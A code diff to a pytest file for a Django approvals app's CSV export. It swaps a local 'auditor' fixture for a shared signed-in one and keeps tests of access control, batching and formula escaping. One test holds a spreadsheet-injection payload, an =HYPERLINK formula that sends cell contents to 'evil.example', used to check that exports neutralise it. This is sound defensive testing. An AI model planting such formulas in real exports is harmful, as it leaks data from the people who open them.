@@ -7,7 +7,6 @@ import json
 import re
 
 import pytest
-from django.contrib.auth.models import Group, Permission
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
@@ -46,24 +45,6 @@ REQUEST_HEADER = [
 EVENT_HEADER = ["at", "request_id", "request_title", "external_id", "kind", "actor", "payload"]
 
 
-@pytest.fixture
-def auditor(client, make_user):
-    """A member of "Auditors" with staff status, as the README sets them up. The group comes
-    from a data migration; a transactional test run earlier may have flushed it, hence
-    get_or_create."""
-    group, _ = Group.objects.get_or_create(name="Auditors")
-    group.permissions.add(
-        *Permission.objects.filter(
-            content_type__app_label="approvals",
-            codename__in=["view_approvalrequest", "view_decision", "view_auditevent"],
-        )
-    )
-    user = make_user("auditor", approver=False, is_staff=True)
-    user.groups.add(group)
-    client.force_login(user)
-    return user
-
-
 def export(client, url):
     """GET an export; answers the response and its rows as dicts (the header read)."""
     response = client.get(url)
@@ -73,7 +54,7 @@ def export(client, url):
 
 
 def test_an_auditor_exports_requests_with_one_row_per_decision(
-    client, auditor, register, make_user, manager
+    client, signed_in_auditor, register, make_user, manager
 ):
     deputy = make_user("deputy")
     trip = register(title="Lisbon trip", external_id="EXP-7", amount="120.50", required_approvals=2)
@@ -144,7 +125,7 @@ def test_an_auditor_exports_requests_with_one_row_per_decision(
     ],
 )
 def test_the_request_export_selects_what_the_changelist_shows(
-    client, auditor, register, manager, query, exported
+    client, signed_in_auditor, register, manager, query, exported
 ):
     trip = register(title="Lisbon trip", external_id="EXP-7")
     register(title="Laptop charger", requester_email="bob@example.com")
@@ -160,7 +141,9 @@ def test_the_request_export_selects_what_the_changelist_shows(
     assert len(rows) == len(exported)
 
 
-def test_the_audit_export_honours_the_kind_filter_and_search(client, auditor, register, manager):
+def test_the_audit_export_honours_the_kind_filter_and_search(
+    client, signed_in_auditor, register, manager
+):
     trip = register(title="Lisbon trip", external_id="EXP-7")
     other = register(title="Laptop charger")
     services.decide(trip["id"], manager, "approved", "ok")
@@ -202,7 +185,7 @@ def test_only_auditors_may_export(client, make_user, register, changelist):
     assert client.get(url).status_code == 403
 
 
-def test_a_filter_the_changelist_cannot_apply_exports_nothing(client, auditor, register):
+def test_a_filter_the_changelist_cannot_apply_exports_nothing(client, signed_in_auditor, register):
     register()
 
     response = client.get(REQUESTS + "export/?created_at__year=not-a-year")
@@ -228,7 +211,9 @@ def test_spreadsheet_safe_prefixes_what_a_spreadsheet_would_run(text, safe):
     assert spreadsheet_safe(text) == safe
 
 
-def test_formulas_from_callers_and_people_come_out_as_text(client, auditor, register, manager):
+def test_formulas_from_callers_and_people_come_out_as_text(
+    client, signed_in_auditor, register, manager
+):
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     created = register(title=formula, external_id="+SUM(1)", amount="0.5")
     services.decide(created["id"], manager, "rejected", "@everyone -1")
@@ -244,7 +229,7 @@ def test_formulas_from_callers_and_people_come_out_as_text(client, auditor, regi
     assert [(e["request_title"], e["external_id"]) for e in events] == [("'" + formula, "'+SUM(1)")]
 
 
-def test_the_export_reads_and_sends_in_batches(client, auditor, manager):
+def test_the_export_reads_and_sends_in_batches(client, signed_in_auditor, manager):
     """2,500 requests: the first piece of the file costs the first batch's queries only (the
     requests' SELECT and one query for those 2,000 requests' decisions); the decisions of the
     last 500 are read only when the stream gets to them."""
@@ -285,7 +270,7 @@ def test_the_export_reads_and_sends_in_batches(client, auditor, manager):
     assert rows[1][2] == "Report 0" and rows[-1][2] == "Report 2499"
 
 
-def test_the_changelists_link_to_the_export_of_what_they_show(client, auditor, register):
+def test_the_changelists_link_to_the_export_of_what_they_show(client, signed_in_auditor, register):
     register()
 
     requests = client.get(REQUESTS + "?status=approved&q=trip&p=1").content.decode()
